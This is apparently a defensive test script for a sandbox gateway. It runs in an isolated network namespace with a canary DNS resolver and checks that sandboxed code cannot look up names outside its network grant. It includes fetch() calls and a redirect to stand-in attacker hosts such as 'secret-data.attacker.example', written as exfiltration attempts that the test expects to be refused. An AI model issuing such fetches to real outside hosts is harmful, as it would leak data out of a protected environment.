"""The DNS case of `test_grants_under_attack.py`, run inside `unshare -rnm` (a private network
namespace with only loopback, and a private mount namespace): `/etc/resolv.conf` is replaced by
one that names a canary resolver on 127.0.0.1:53, which records every query and answers none,
so no query can leave the machine and every one is seen. `sandgate serve --http` runs in the
same namespace with the real `server-everything`; two profiles fetch names their grant does not
hold (a literal-only grant, a name grant), directly and after a redirect from the granted
server, and one fetches a name its grant holds (the canary must see that one, or it proves
nothing). Prints one JSON line: the queries seen and each refusal's message.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))

import anyio  # noqa: E402
from mcp import Client  # noqa: E402

from conftest import OneProcess, reference_servers, toml_value  # noqa: E402

LITERAL_TOKEN = "literal-token-" + "l" * 40
NAMED_TOKEN = "named-token-" + "n" * 40


def canary(queries: list[str]) -> None:
    """A resolver that writes down the name of every query and answers each with REFUSED."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 53))
    while True:
        data, peer = sock.recvfrom(4096)
        labels, at = [], 12
        while at < len(data) and data[at] != 0:
            length = data[at]
            labels.append(data[at + 1:at + 1 + length].decode(errors="replace"))
            at += 1 + length
        queries.append(".".join(labels).lower())
        # Same id, QR set, RCODE 5 (refused), the question echoed.
        reply = data[:2] + bytes([0x81, 0x85]) + data[4:6] + b"\x00\x00\x00\x00\x00\x00" + data[12:at + 5]
        sock.sendto(reply, peer)


def redirecting_site() -> int:
    """A loopback server whose every answer redirects to a name outside every grant."""
    import http.server

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 - the stdlib's name
            self.send_response(302)
            self.send_header("Location", "http://leak-after-redirect.attacker.example/")
            self.end_headers()

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server.server_address[1]


async def main(tmp: Path) -> dict:
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
    resolv = tmp / "resolv.conf"
    resolv.write_text("nameserver 127.0.0.1\noptions attempts:1 timeout:1\n")
    subprocess.run(["mount", "--bind", str(resolv), "/etc/resolv.conf"], check=True)
    queries: list[str] = []
    threading.Thread(target=canary, args=(queries,), daemon=True).start()
    port = redirecting_site()
    everything = reference_servers(tmp)["everything"]
    config = tmp / "sandgate.toml"
    config.write_text("\n".join([
        f'[store]\npath = "{tmp / "store.db"}"',
        f'[gateway]\ncache_file = "{tmp / "tools.json"}"',
        "[servers.everything]",
        *[f"{key} = {toml_value(value)}" for key, value in everything.items()],
        f"""
[profiles.literal]
tools = ["everything.echo"]
net = ["127.0.0.1:{port}"]

[profiles.named]
tools = ["everything.echo"]
net = ["*.allowed.test"]

[[http.tokens]]
token = "{LITERAL_TOKEN}"
profile = "literal"

[[http.tokens]]
token = "{NAMED_TOKEN}"
profile = "named"
""",
    ]))
    # One process: the private namespace holds no PostgreSQL for a cluster.
    server = OneProcess(config, token=LITERAL_TOKEN)
    refusals = []
    try:
        attempts = [
            (LITERAL_TOKEN, f"http://secret-data.attacker.example:{port}/"),
            (LITERAL_TOKEN, f"http://127.0.0.1:{port}/"),
            (NAMED_TOKEN, "http://more-data.attacker.example/"),
        ]
        for token, url in attempts:
            headers = {"Authorization": f"Bearer {token}"}
            async with Client(server.target(headers), mode="legacy", read_timeout_seconds=60) as client:
                code = f'return await fetch({json.dumps(url)}).then(() => "fetched", (e: any) => e.message)'
                result = await client.call_tool("call_tool_chain", {"code": code})
                refusals.append(str((result.structured_content or {}).get("result")))
        # A name the grant holds is looked up (the canary refuses it): the canary works.
        headers = {"Authorization": f"Bearer {NAMED_TOKEN}"}
        async with Client(server.target(headers), mode="legacy", read_timeout_seconds=60) as client:
            code = 'return await fetch("http://api.allowed.test/").then(() => "fetched", (e: any) => e.message)'
            await client.call_tool("call_tool_chain", {"code": code})
    finally:
        server.close()
    return {
        "queries": sorted(set(queries)),
        "granted_name_queried": "api.allowed.test" in queries,
        "refusals": refusals,
    }


if __name__ == "__main__":
    os.environ.pop("http_proxy", None)
    report = anyio.run(main, Path(sys.argv[1]))
    print(json.dumps(report))
